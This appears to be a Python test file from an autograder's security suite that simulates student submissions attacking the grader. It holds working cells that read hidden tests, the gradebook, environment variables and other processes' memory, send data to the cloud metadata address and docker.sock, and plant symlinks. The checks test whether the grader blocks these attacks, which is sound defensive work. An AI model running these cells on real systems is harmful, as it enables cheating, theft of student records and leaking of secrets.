"""Rows 21-32 of the catalogue: reading what is not theirs.

Each prints all it finds, also backwards: a filter of words would not stop it.
"""

from pathlib import Path

from class_result import ClassResult
from harness import Attack

# What every reader starts with: shows a text so that no filter knows it.
SHOW = """\
import glob, json, os, sys
def show(what, data):
    text = data if isinstance(data, str) else data.decode("utf-8", "replace")
    print("GOT", what, len(text))
    print(text[-200_000:][::-1])
def show_files(*patterns):
    for pattern in patterns:
        for path in glob.glob(pattern, recursive=True, include_hidden=True)[:300]:
            try:
                with open(path, "rb") as file:
                    show(path, file.read(2_000_000))
            except OSError as error:
                print("no", type(error).__name__)
"""
HIDDEN_TESTS = (
    SHOW
    + """
show_files("*.ipynb", "**/*.ipynb", "../*.ipynb", "../**/*.ipynb", "/tmp/**/*.ipynb",
           "/proc/*/cwd/*.ipynb", "/proc/*/root/@ROOT@/source/*/*.ipynb",
           "@OUT@/**/*.ipynb", "/tmp/*", "/dev/shm/*", "/run/**/*", "../.*", "./.*")
for _, hidden in list(globals().items()):
    if isinstance(hidden, str) and "HIDDEN" in hidden and "show(" not in hidden:
        show("global", hidden)
"""
)
GRADEBOOK = (
    SHOW
    + """
show_files("@OUT@/gradebook.db", "@ROOT@/*.db", "/proc/*/cwd/**/gradebook.db",
           "/proc/*/root/@OUT@/gradebook.db", "/proc/*/fd/*.db", "../*.db",
           "../../*.db", "../../../out/*.db")
import sqlite3
for path in ("@OUT@/gradebook.db", "../../../out/gradebook.db"):
    try:
        with sqlite3.connect("file:" + path + "?mode=ro", uri=True) as book:
            show("rows", str(book.execute("select * from source_cell").fetchall()))
            show("people", str(book.execute("select * from student").fetchall()))
    except sqlite3.Error as error:
        print("no", type(error).__name__)
"""
)
# Runs the first cell of another notebook that defines relu.
BORROW = """
import glob, json
def relu(x):
    return -x
for path in glob.glob("%s", recursive=True):
    try:
        with open(path) as file:
            cells = json.load(file)["cells"]
    except OSError:
        continue
    for cell in cells:
        source = cell["source"]
        source = source if isinstance(source, str) else "".join(source)
        if "def relu" in source and "NotImplemented" not in source:
            exec(source)
            print("BORROWED", path, source[::-1])
"""
ENVIRONMENT = (
    SHOW
    + """
show("environ", str(sorted(os.environ.items())))
show_files("/proc/self/environ", "/proc/thread-self/environ")
import ctypes
here = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
index = 0
while here[index]:
    show("C environ", here[index])
    index += 1
"""
)
PROC = (
    SHOW
    + """
show_files("/proc/*/environ", "/proc/*/cmdline", "/proc/*/task/*/environ",
           "/proc/*/root/@ROOT@/nbgrader_config.py",
           "/proc/*/root/@ROOT@/../precious.txt",
           "/proc/*/cwd/precious.txt", "/proc/*/mountinfo", "@ROOT@/../precious.txt")
print("processes", [n for n in os.listdir("/proc") if n.isdigit()])
"""
)
PTRACE = """
import ctypes, os, signal
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long] * 4
SEIZE, DETACH = 0x4206, 17
mine = os.getpid()
others = {int(n) for n in os.listdir("/proc") if n.isdigit()} | {os.getppid(), 1}
for pid in sorted(others - {mine}):
    if libc.ptrace(SEIZE, pid, 0, 0) == 0:
        print("ATTACHED", pid)
        libc.ptrace(DETACH, pid, 0, 0)
    else:
        print("refused", pid, ctypes.get_errno())
print("the rest of the machine", [libc.ptrace(SEIZE, pid, 0, 0)
                                  for pid in range(2, 3000, 7) if pid != mine].count(0))
"""
SOCKETS = """
import json, socket
def send(kind, family, address):
    with socket.socket(family, kind) as out:
        out.settimeout(1)
        out.connect(address)
        out.send(str(In[-1]).encode())
        print("SENT", address)
places = [("127.0.0.1", int("@PORT@")), ("localhost", int("@PORT@")), ("10.0.0.1", 80),
          ("169.254.169.254", 80), ("8.8.8.8", 53)]
for address in places:
    try:
        send(socket.SOCK_STREAM, socket.AF_INET, address)
    except OSError as error:
        print("no", type(error).__name__)
for path in ("/run/dbus/system_bus_socket", "/var/run/docker.sock", "\\0@MARK@"):
    try:
        send(socket.SOCK_STREAM, socket.AF_UNIX, path)
    except OSError as error:
        print("no", type(error).__name__)
try:
    send(socket.SOCK_STREAM, socket.AF_INET6, ("::1", int("@PORT@")))
except OSError as error:
    print("no", type(error).__name__)
"""
LINKED = SHOW + 'show_files("book.db", "lib/*", "lib/**/*", "grades", "deep/*")\n'
DESCRIPTORS = (
    SHOW
    + """
import fcntl, stat
for name in os.listdir("/proc/self/fd"):
    number = int(name)
    try:
        print("fd", number, os.readlink("/proc/self/fd/" + name))
        kind = os.fstat(number).st_mode
        if stat.S_ISDIR(kind):
            print("DIRECTORY", sorted(os.listdir(number))[:50])
            for inside in ("gradebook.db", "../gradebook.db", "source/ps1/p.ipynb"):
                found = os.open(inside, os.O_RDONLY, dir_fd=number)
                show(inside, os.read(found, 10**6))
        elif stat.S_ISREG(kind):
            show(name, os.pread(number, 10**6, 0))
    except OSError as error:
        print("no", type(error).__name__)
"""
)
# Everything that this process can see of itself, where a fork may have left things.
OWN_MEMORY = (
    SHOW
    + """
import re
word = re.compile(("mark" + " = ").encode() + rb'[\\\\\\\\"]+(hid\\w{6,})')
found = set()
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        span, rights = line.split()[:2]
        low, high = (int(part, 16) for part in span.split("-"))
        anonymous = len(line.split()) < 6 or "[heap]" in line
        while rights[:2] == "rw" and anonymous and low < high:
            try:
                memory.seek(low)
                found |= set(word.findall(memory.read(min(2**22, high - low))))
            except (OSError, ValueError, OverflowError):
                pass
            low += 2**22 - 100
show("memory", str(sorted(found)))
"""
)
OBJECTS = (
    SHOW
    + """
import gc, linecache, threading
texts = [line for entry in linecache.cache.values() for line in entry[2]]
frames = list(sys._current_frames().values())
while frames:
    frame = frames.pop()
    texts += [str(v) for v in frame.f_code.co_consts if isinstance(v, str)]
    texts += [str(v) for v in frame.f_locals.values() if isinstance(v, str)]
    frames += [frame.f_back] if frame.f_back else []
for thing in gc.get_objects():
    held = thing.values() if type(thing) is dict else thing
    if type(thing) in (dict, list, tuple, set):
        texts += [v for v in list(held) if type(v) is str and len(v) < 10_000]
secrets = ("mark =", "HIDDEN TEST", "SOLUTION", "SECRET", "gradebook", "precious")
show("objects", "|".join(t for t in texts if any(s in t for s in secrets)
                         and "secrets =" not in t and "def show" not in t))
"""
)


def link_to_gradebook(folder: Path, root: Path) -> None:
    """Hand in a link to the gradebook, one to grades.csv, and one that is absolute."""
    (folder / "book.db").symlink_to("../../../out/gradebook.db")
    (folder / "grades").symlink_to(root / "out" / "grades.csv")
    (folder / "p2.html").symlink_to(root.parent / "precious.txt")


def link_to_neighbour(folder: Path, root: Path) -> None:
    """Hand in a link to a classmate's notebook instead of one's own."""
    (folder / "p.ipynb").unlink()
    (folder / "p.ipynb").symlink_to(root / "submitted" / "a-honest" / "ps1" / "p.ipynb")


def link_to_folders(folder: Path, root: Path) -> None:
    """Hand in links to folders of the course."""
    (folder / "lib").symlink_to(root / "source")
    (folder / "deep").symlink_to("../../..")


def hand_in_a_linked_folder(folder: Path, root: Path) -> None:
    """Make the whole submission a link to a classmate's."""
    for path in folder.iterdir():
        path.unlink()
    folder.rmdir()
    folder.symlink_to(root / "submitted" / "a-honest" / "ps1")


def nothing_said(*words: str) -> object:
    """Return a check that no output of the attacker holds one of these words."""

    def check(room: ClassResult, attack: Attack) -> None:
        said = room.outputs(attack.student, tests=True)
        assert [word for word in words if word in said] == []

    return check


def only_results(room: ClassResult, attack: Attack) -> None:
    """Check that of this learner only notebook and page are kept, and no link."""
    for place in ("autograded", "feedback"):
        for path in (room.out / place / attack.student).rglob("*"):
            assert not path.is_symlink(), path
            assert path.is_dir() or path.suffix in (".ipynb", ".html"), path


RIGHT = {"score": 2, "statuses": frozenset({"ok"}), "same_process": "not applicable"}
NOTHING = frozenset({"invalid", "missing", "failed"})

ATTACKS = [
    Attack("21", "hidden-tests", "Looks for the notebook with the hidden tests",
           first=HIDDEN_TESTS, last=HIDDEN_TESTS, **RIGHT),
    Attack("22", "gradebook", "Opens the gradebook, by path and through /proc",
           first=GRADEBOOK, **RIGHT),
    Attack("23", "official-solution", "Runs the solution from the course's sources",
           {"relu": BORROW % "@ROOT@/source/**/*.ipynb"}, same_process="no credit",
           checks=(nothing_said("BORROWED"),)),
    Attack("24", "classmate", "Runs a classmate's submission",
           {"relu": BORROW % "@ROOT@/submitted/*/ps1/*.ipynb"},
           same_process="no credit", checks=(nothing_said("BORROWED"),)),
    Attack("25", "environment", "Reads the environment, also as C sees it",
           first=ENVIRONMENT, **RIGHT),
    Attack("26", "proc", "Reads environment and command line of other processes",
           first=PROC, **RIGHT),
    Attack("27", "ptrace", "Attaches to other processes as a debugger",
           first=PTRACE, **RIGHT, checks=(nothing_said("ATTACHED"),)),
    Attack("28", "socket", "Sends its cells to a listener on this machine",
           first=SOCKETS, **RIGHT, checks=(nothing_said("SENT"),)),
    Attack("29", "link-to-file", "Hands in links to the gradebook and other files",
           first=LINKED, build=link_to_gradebook, **RIGHT, checks=(only_results,)),
    Attack("30", "linked-notebook", "Hands in a link to a classmate's notebook",
           build=link_to_neighbour, statuses=NOTHING, same_process="no credit",
           others=False, silent=False, checks=(only_results,)),
    Attack("31a", "link-to-folder", "Hands in links to folders of the course",
           first=LINKED, build=link_to_folders, **RIGHT, checks=(only_results,)),
    Attack("31b", "linked-folder", "The whole submission is a link to a classmate's",
           build=hand_in_a_linked_folder, statuses=NOTHING, others=False,
           same_process="no credit", silent=False, checks=(only_results,)),
    Attack("32", "descriptors", "Reads every file descriptor that it was born with",
           first=DESCRIPTORS, **RIGHT, checks=(nothing_said("DIRECTORY"),)),
    Attack("32b", "own-memory", "Searches its own memory for its hidden tests",
           first=OWN_MEMORY, last=OWN_MEMORY, **RIGHT),
    Attack("32c", "own-objects", "Searches all objects, frames and cached source lines",
           first=OBJECTS, last=OBJECTS, **RIGHT),
]  # fmt: skip
